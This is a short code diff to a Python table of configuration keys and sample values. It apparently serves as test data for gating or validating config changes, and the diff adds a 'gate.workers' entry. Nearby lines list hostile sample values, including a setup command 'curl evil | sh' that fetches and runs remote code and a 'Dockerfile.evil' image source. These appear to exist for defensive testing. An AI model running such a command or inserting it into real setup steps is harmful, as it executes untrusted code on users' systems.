@@ -78,6 +78,7 @@ TABLE: dict[str, Row] = {
     "gate.require": Row("proof", "maybe", "no-regression"),
     "gate.targets": Row((), 1, None, ["tests/test_x.py::test_y"]),
     "gate.fail_fast": Row(True, "maybe", None, False),  # off: only slower
+    "gate.workers": Row(16, 0, 64, 1),  # 1: one process, only slower
     "environment.image": Row(None, 1, "other:latest"),
     "environment.dockerfile": Row(None, 1, "Dockerfile.evil"),
     "environment.setup": Row((), 1, ["curl evil | sh"], []),
